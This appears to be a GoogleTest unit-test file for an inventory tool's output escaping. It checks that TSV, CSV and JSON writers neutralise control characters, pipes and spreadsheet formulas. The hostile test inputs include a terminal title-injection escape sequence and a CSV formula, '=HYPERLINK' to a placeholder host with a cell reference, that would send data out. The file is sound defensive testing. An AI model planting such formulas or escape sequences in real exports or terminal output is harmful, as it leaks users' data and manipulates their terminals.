// The text forms of the inventory's records, field by field: what a hostile text becomes in
// each of them.
#include "output/OutputFormat.h"

#include <gtest/gtest.h>

namespace {

// Every C0 control, DEL and every C1 control, with a letter between them.
QString everyControl()
{
    QString text;
    for (char16_t c = 0; c < 0xa0; ++c) {
        if (c < 0x20 || c >= 0x7f) {
            text += QChar(c);
            text += u'a';
        }
    }
    return text;
}

bool holdsControl(const QString& text)
{
    for (QChar c : text) {
        if (c.unicode() < 0x20 || (c.unicode() >= 0x7f && c.unicode() <= 0x9f))
            return true;
    }
    return false;
}

}

TEST(OutputText, NoControlCharacterSurvivesAnyForm)
{
    const QString hostile = everyControl();
    for (const QString& written : {OutputText::tsvField(hostile), OutputText::csvField(hostile),
                                   OutputText::jsonString(hostile), OutputText::shown(hostile)})
        EXPECT_FALSE(holdsControl(written)) << written.toStdString();

    // A terminal's title sequence (ESC ] 0 ; ... BEL) and the C1 introducer CSI.
    const QString title = QStringLiteral("\x1b]0;pwned\x07x\u009b2J");
    EXPECT_EQ(OutputText::tsvField(title), "\\x1B]0;pwned\\x07x\\x9B2J");
    EXPECT_EQ(OutputText::csvField(title), "\"\\x1B]0;pwned\\x07x\\x9B2J\"");
    EXPECT_EQ(OutputText::jsonString(title), "\"\\u001b]0;pwned\\u0007x\\u009b2J\"");
    EXPECT_EQ(OutputText::shown(title), "\\x1B]0;pwned\\x07x\\x9B2J");

    // TSV keeps its short escapes, and a backslash written as text stays apart from an escape.
    EXPECT_EQ(OutputText::tsvField(QStringLiteral("a\tb\rc\nd") + QChar(0) + QStringLiteral("\\x1B\x7f")),
              "a\\tb\\rc\\nd\\0\\\\x1B\\x7F");
    // CSV keeps each record on one line: CR and LF are written as escapes inside quotes.
    EXPECT_EQ(OutputText::csvField("a\r\nb"), "\"a\\x0D\\x0Ab\"");
    // Text beyond the controls is left alone.
    EXPECT_EQ(OutputText::tsvField(QString::fromUtf8("Señor \u00a0€")), QString::fromUtf8("Señor \u00a0€"));
    EXPECT_EQ(OutputText::csvField(QString::fromUtf8("Señor")), QString::fromUtf8("Señor"));
}

TEST(OutputText, TablesEscapeControlsInEveryFormat)
{
    OutputTable table;
    table.columns = {"name", "projects"};
    table.rows.append({QStringLiteral("\x1b[2J"), QStringList{QStringLiteral("c:\\a\x07.vbp"), QStringLiteral("b\u0085")}});
    for (OutputFormat format : {OutputFormat::Tsv, OutputFormat::Csv, OutputFormat::Json}) {
        const QString text = QString::fromUtf8(RenderTable(table, format));
        QString withoutLineEnds = text;
        withoutLineEnds.remove(u'\n').remove(u'\r').remove(u'\t');
        EXPECT_FALSE(holdsControl(withoutLineEnds)) << text.toStdString();
    }
}

TEST(OutputText, CsvKeepsFormulasAsTextUnlessAskedForRawFields)
{
    // Each start a spreadsheet reads as a formula gets a leading "'"; a plain number does not.
    EXPECT_EQ(OutputText::csvField("=1+41"), "'=1+41");
    EXPECT_EQ(OutputText::csvField("=HYPERLINK(\"http://x/?\"&A1,\"Click\")"),
              "\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"Click\"\")\"");
    EXPECT_EQ(OutputText::csvField("+1+1"), "'+1+1");
    EXPECT_EQ(OutputText::csvField("-2+3"), "'-2+3");
    EXPECT_EQ(OutputText::csvField("@SUM(A1)"), "'@SUM(A1)");
    EXPECT_EQ(OutputText::csvField("\t=1"), "\"'\\x09=1\"");
    EXPECT_EQ(OutputText::csvField("\r=1"), "\"'\\x0D=1\"");
    for (const char* number : {"-3", "+4", "-4.5", "12", "0"})
        EXPECT_EQ(OutputText::csvField(number), number);
    EXPECT_EQ(OutputText::csvField("a=1"), "a=1");
    EXPECT_EQ(OutputText::csvField(""), "");

    EXPECT_EQ(OutputText::csvField("=1+41", CsvFormulas::Raw), "=1+41");
    EXPECT_EQ(OutputText::csvField("\t=1", CsvFormulas::Raw), "\"\\x09=1\"") << "controls are escaped still";

    OutputTable table;
    table.columns = {"name", "version"};
    table.rows.append({QStringLiteral("=1+41"), qint64(-1)});
    EXPECT_EQ(RenderTable(table, OutputFormat::Csv), "name,version\r\n'=1+41,-1\r\n");
    EXPECT_EQ(RenderTable(table, OutputFormat::Csv, CsvFormulas::Raw), "name,version\r\n=1+41,-1\r\n");
    EXPECT_EQ(RenderTable(table, OutputFormat::Tsv), "name\tversion\n=1+41\t-1\n") << "TSV is for programs";
}

TEST(OutputText, APipeInsideAListItemIsEscaped)
{
    OutputTable table;
    table.columns = {"projects"};
    table.rows.append({QStringList{QStringLiteral("c:\\a|b.vbp"), QStringLiteral("c:\\c\\|.vbp")}});
    table.rows.append({QStringList{QStringLiteral("c:\\a"), QStringLiteral("b.vbp")}});
    // TSV doubles every backslash, so "\|" is a pipe of an item and a bare "|" joins items.
    EXPECT_EQ(RenderTable(table, OutputFormat::Tsv), "projects\nc:\\\\a\\|b.vbp|c:\\\\c\\\\\\|.vbp\nc:\\\\a|b.vbp\n");
    // CSV leaves backslashes alone: "\|" is a pipe of an item.
    EXPECT_EQ(RenderTable(table, OutputFormat::Csv), "projects\r\nc:\\a\\|b.vbp|c:\\c\\\\|.vbp\r\nc:\\a|b.vbp\r\n");
    EXPECT_EQ(RenderTable(table, OutputFormat::Json),
              "[\n  {\"projects\": [\"c:\\\\a|b.vbp\", \"c:\\\\c\\\\|.vbp\"]},\n"
              "  {\"projects\": [\"c:\\\\a\", \"b.vbp\"]}\n]\n");
}

TEST(OutputText, WriteTableHandsOverOneRecordAtATime)
{
    OutputTable table;
    table.columns = {"a", "b"};
    for (int r = 0; r < 3; ++r)
        table.rows.append({QStringLiteral("x"), qint64(r)});
    for (OutputFormat format : {OutputFormat::Tsv, OutputFormat::Csv, OutputFormat::Json}) {
        QList<QByteArray> pieces;
        WriteTable(table, format, [&pieces](const QByteArray& piece) { pieces.append(piece); });
        // TSV and CSV: the header, then each record; JSON: each record (the first with the opening
        // bracket), then the closing one.
        EXPECT_EQ(pieces.size(), 4);
        EXPECT_EQ(pieces.join(), RenderTable(table, format));
    }
    // With no record: an empty JSON list, and a header alone.
    table.rows.clear();
    EXPECT_EQ(RenderTable(table, OutputFormat::Json), "[]\n");
    EXPECT_EQ(RenderTable(table, OutputFormat::Tsv), "a\tb\n");
}

TEST(OutputText, TableRecordsWriteEachTextAsItsTsvField)
{
    // The table writer escapes texts straight into the record; it must write what tsvField
    // writes for every kind of text, and a short record after a long one carries nothing over.
    const QString rawByte = QString(QChar(char16_t(0xDC80 + 0x41))); // the host name byte 0xC1
    const QStringList texts = {
        QStringLiteral("c:\\sesion\\Facturas.vbp"),
        QStringLiteral("plain"),
        QString(),
        QStringLiteral("a\tb\\c\r\n") + QChar(0) + QStringLiteral("\x1b\u009b"),
        QStringLiteral("lone ") + QChar(char16_t(0xD800)) + QStringLiteral("\\x"),
        QStringLiteral("raw ") + rawByte + QStringLiteral("\\xC1"),
        QString::fromUtf8("工程1 \xF0\x9F\x98\x80 \\"),
        QString(300, u'\\'),
    };
    OutputTable table;
    table.columns = {"a", "b"};
    QByteArray expected = "a\tb\n";
    for (const QString& text : texts) {
        table.rows.append({text, text + u'x'});
        expected += (OutputText::tsvField(text) + u'\t' + OutputText::tsvField(text + u'x') + u'\n').toUtf8();
    }
    for (qsizetype i = texts.size() - 1; i >= 0; --i) {
        table.rows.append({texts[i], QStringLiteral("y")});
        expected += (OutputText::tsvField(texts[i]) + QStringLiteral("\ty\n")).toUtf8();
    }
    EXPECT_EQ(RenderTable(table, OutputFormat::Tsv), expected);
    EXPECT_EQ(OutputText::tsvField(QStringLiteral("raw ") + rawByte), "raw \\xC1");
}

TEST(OutputText, EveryCharacterIsEscapedWhereverItStandsInTheText)
{
    // Plain ASCII is copied eight characters at a time: a character needing care must be found at
    // every place of such a block and of the rest after it, and the ones around it kept.
    const auto escaped = [](char16_t c) -> QString {
        switch (c) {
        case u'\\': return QStringLiteral("\\\\");
        case u'\t': return QStringLiteral("\\t");
        case u'\r': return QStringLiteral("\\r");
        case u'\n': return QStringLiteral("\\n");
        case 0: return QStringLiteral("\\0");
        }
        if (c < 0x20 || (c >= 0x7f && c <= 0x9f))
            return QStringLiteral("\\x%1").arg(int(c), 2, 16, QChar(u'0')).toUpper().replace(u'X', u'x');
        return QString(QChar(c));
    };
    for (const char16_t special : {u'\\', u'\t', u'\n', char16_t(0), char16_t(0x1f), char16_t(0x7f), char16_t(0x9f),
                                   u' ', u'~', u'[', u']', char16_t(0xe9), char16_t(0x4e2d), char16_t(0x8020)}) {
        for (int size = 1; size <= 26; ++size) {
            for (int at = 0; at < size; ++at) {
                QString text, expected;
                for (int i = 0; i < size; ++i) {
                    const char16_t c = i == at ? special : char16_t(u'A' + i);
                    text += QChar(c);
                    expected += escaped(c);
                }
                ASSERT_EQ(OutputText::tsvField(text), expected) << int(special) << " at " << at << " of " << size;
                QString record = QStringLiteral("x");
                OutputText::appendTsvField(record, text);
                ASSERT_EQ(record, u'x' + expected);
            }
        }
    }
}
